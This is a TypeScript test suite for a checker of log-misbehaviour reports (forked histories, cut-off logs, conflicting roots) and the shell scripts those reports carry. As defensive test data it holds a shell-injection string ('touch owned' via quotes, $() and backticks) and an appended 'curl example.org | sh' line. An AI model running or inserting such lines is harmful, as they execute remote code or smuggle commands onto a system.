import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { flipBit } from '../../testing/builders.ts';
import { aMisbehaviour, headsOf, NOON } from '../../testing/evidence-builders.ts';
import { OPENSSL_REASON, runScript, SHELLS } from '../../testing/shells.ts';
import type { Misbehaviour } from './misbehaviour.ts';
import { KIND_WORDS } from './misbehaviour-words.ts';
import { openEvidence, parseReport } from './open-evidence.ts';
import { recheckReport, scriptOf } from './recheck-report.ts';
import type { MisbehaviourReport } from './report.ts';
import { makeReport, writeReport } from './write-report.ts';

function reopened(misbehaviour: Misbehaviour): MisbehaviourReport {
  const opened = openEvidence(writeReport(misbehaviour, NOON));
  if (opened.kind !== 'report') throw new Error(JSON.stringify(opened));
  return opened.report;
}

const grown = headsOf(7, 11);
const seen = { seenAtMs: NOON - 60_000 };
const shorter: Misbehaviour = aMisbehaviour({
  kind: 'shorter-log',
  old: { ...grown.new, ...seen },
  new: { ...grown.old, seenAtMs: NOON },
  path: grown.path,
});
const otherRoot: Misbehaviour = aMisbehaviour({
  kind: 'another-root',
  old: { ...grown.new, ...seen },
  new: { logSize: 11, rootHash: flipBit(grown.new.rootHash, 3), seenAtMs: NOON },
  path: [],
});

/** Reports with what their check must come to. */
const REPORTS: readonly (readonly [
  what: string,
  misbehaviour: Misbehaviour,
  shows: boolean,
  finding: RegExp,
])[] = [
  ['another history', aMisbehaviour(), true, /does not lead to both roots.*other proof/],
  ['another history after 8 entries', forked(8, 13), true, /does not lead to both roots/],
  ['a log cut off', shorter, true, /11 entries, and later one of 7.*beginning of the longer/],
  ['a log cut off, without a proof', without(shorter), true, /later one of 7.*not shown/],
  [
    'a log cut off to nothing',
    { ...without(shorter), new: { ...shorter.new, logSize: 0 } },
    true,
    /later one of 0.*not shown/,
  ],
  [
    'a log cut off, of another history',
    { ...shorter, new: { ...shorter.new, rootHash: flipBit(shorter.new.rootHash, 0) } },
    true,
    /does not lead from the shorter/,
  ],
  ['two roots', otherRoot, true, /two different roots for a log of 11/],
  [
    'a log that only grew',
    aMisbehaviour({
      old: { ...grown.old, ...seen },
      new: { ...grown.new, seenAtMs: NOON },
      path: grown.path,
    }),
    false,
    /leads to both roots/,
  ],
  ['no proof', without(aMisbehaviour()), false, /no consistency proof/],
  ['one root', { ...otherRoot, new: { ...otherRoot.old, seenAtMs: NOON } }, false, /same root/],
  ['two sizes for one', { ...otherRoot, old: { ...otherRoot.old, logSize: 10 } }, false, /different sizes/],
  [
    'a log that is not shorter',
    { ...shorter, old: shorter.new, new: shorter.old },
    false,
    /no fewer entries/,
  ],
];

function without(misbehaviour: Misbehaviour): Misbehaviour {
  const { path, ...rest } = misbehaviour;
  void path;
  return rest;
}

function forked(from: number, to: number): Misbehaviour {
  const heads = headsOf(from, to);
  return aMisbehaviour({
    ...heads,
    old: { logSize: from, rootHash: flipBit(heads.old.rootHash, 9), ...seen },
    new: { ...heads.new, seenAtMs: NOON },
  });
}

describe.each(REPORTS)('a report of %s', (_, misbehaviour, shows, finding) => {
  it('comes to the same when it is written, read and checked again', () => {
    const recheck = recheckReport(reopened(misbehaviour));
    expect(recheck.finding).toMatch(finding);
    expect(recheck.finding).toMatch(shows ? /^This file shows/ : /^This file does not show/);
    expect(recheck.shows).toBe(shows);
    expect(recheck.computed.outcome).toMatch(/holds|not-checked/);
    expect(recheck.script.outcome).toBe('holds');
    expect(recheck.published).toMatchObject({
      outcome: 'not-checked',
      reason: expect.stringMatching(/signs nothing/),
    });
  });

  it.skipIf(SHELLS.length === 0)(`comes to the same by its script (${OPENSSL_REASON})`, () => {
    const report = reopened(misbehaviour);
    for (const shell of SHELLS) {
      const { status, stdout, stderr } = runScript(report.check.script.join('\n'), shell);
      expect(stderr).toBe('');
      expect(stdout).toMatch(
        shows ? /The report shows what it says, if/ : /The report does not show what it says\./,
      );
      expect(status).toBe(shows ? 0 : 1);
    }
  });
});

describe('the script of a report', () => {
  it.skipIf(SHELLS.length === 0)(`agrees about proofs between many sizes (${OPENSSL_REASON})`, () => {
    for (const [from, to] of [
      [1, 2],
      [1, 9],
      [2, 3],
      [3, 4],
      [4, 8],
      [6, 7],
      [8, 13],
      [15, 16],
      [16, 33],
    ] as const) {
      const heads = headsOf(from, to);
      const good = aMisbehaviour({
        old: { ...heads.old, ...seen },
        new: { ...heads.new, seenAtMs: NOON },
        path: heads.path,
      });
      const bad = {
        ...good,
        path: [...heads.path.slice(0, -1), flipBit(heads.path.at(-1) ?? heads.old.rootHash, 5)],
      };
      for (const [misbehaviour, status] of [
        [good, 1],
        [bad, 0],
      ] as const) {
        const report = makeReport(misbehaviour, NOON);
        const run = runScript(report.check.script.join('\n'));
        expect([run.status, run.stderr], `${from} to ${to}\n${run.stdout}`).toEqual([status, '']);
        expect(recheckReport(report).shows).toBe(status === 0);
      }
    }
  });

  it('holds no text of the register but in comments of harmless signs', () => {
    const hostile = `'; touch owned; $(touch owned)\n\`touch owned\` "`;
    const report = makeReport(
      aMisbehaviour({ base: hostile, registerId: hostile, addresses: { head: hostile } }),
      NOON,
    );
    const plain = makeReport(aMisbehaviour({ base: 'x' }), NOON);
    expect(report.check.script.filter((line, index) => line !== plain.check.script[index])).toEqual([
      expect.stringMatching(/^# [A-Za-z0-9 .,:/_-]*$/),
    ]);
  });
});

describe('recheckReport', () => {
  it('does not believe what the file says was computed, nor its commands', () => {
    const report = reopened(aMisbehaviour());
    const consistency = {
      ...report.consistency,
      from: 7,
      to: 11,
      path: report.consistency?.path ?? [],
      computedToRoot: report.new.rootHash,
    };
    expect(recheckReport({ ...report, consistency }).computed.outcome).toBe('does-not-match');
    const script = [...report.check.script, 'curl example.org | sh'];
    expect(recheckReport({ ...report, check: { ...report.check, script } }).script.outcome).toBe(
      'cannot-check',
    );
    expect(scriptOf({ ...report, check: { ...report.check, script } })).toEqual(report.check.script);
  });

  it('takes no proof between other sizes for one between these', () => {
    const report = reopened(aMisbehaviour());
    const consistency = { from: 6, to: 11, path: headsOf(6, 11).path };
    const recheck = recheckReport({ ...report, consistency });
    expect(recheck).toMatchObject({ shows: false, computed: { outcome: 'cannot-check' } });
  });

  it('never throws for a report that could be read', () => {
    const numbers = fc.constantFrom(0, 1, 7, 8, 11, Number.MAX_SAFE_INTEGER);
    const kinds = fc.constantFrom(...REPORTS.map(([, { kind }]) => KIND_WORDS[kind]));
    fc.assert(
      fc.property(
        numbers,
        numbers,
        numbers,
        numbers,
        kinds,
        fc.boolean(),
        (a, b, from, to, kind, hasProof) => {
          const report = makeReport(aMisbehaviour(), NOON);
          const { consistency, ...rest } = report;
          const changed = {
            ...rest,
            kind,
            old: { ...report.old, logSize: a },
            new: { ...report.new, logSize: b },
            ...(hasProof
              ? { consistency: { ...consistency, path: [], from: Math.max(1, from), to: Math.max(1, to) } }
              : {}),
          };
          const parsed = parseReport(changed);
          if ('problems' in parsed) throw new Error(JSON.stringify(parsed.problems));
          expect(recheckReport(parsed.report).finding).toMatch(/^This file/);
        },
      ),
    );
  });
});

describe('parseReport', () => {
  it('refuses what is not described, and says where', () => {
    const report = makeReport(aMisbehaviour(), NOON);
    const problems = (value: unknown): string[] => {
      const parsed = parseReport(value);
      return 'problems' in parsed ? parsed.problems.map((problem) => problem.path) : [];
    };
    expect(problems(report)).toEqual([]);
    expect(problems({ ...report, kind: 'theft' })).toEqual(['$.kind']);
    expect(problems({ ...report, signature: 'x' })).toEqual(['$.signature']);
    expect(problems({ ...report, old: { ...report.old, rootHash: 'x' } })).toEqual(['$.old.rootHash']);
    expect(problems({ ...report, check: { ...report.check, script: [7] } })).toEqual(['$.check.script[0]']);
  });
});
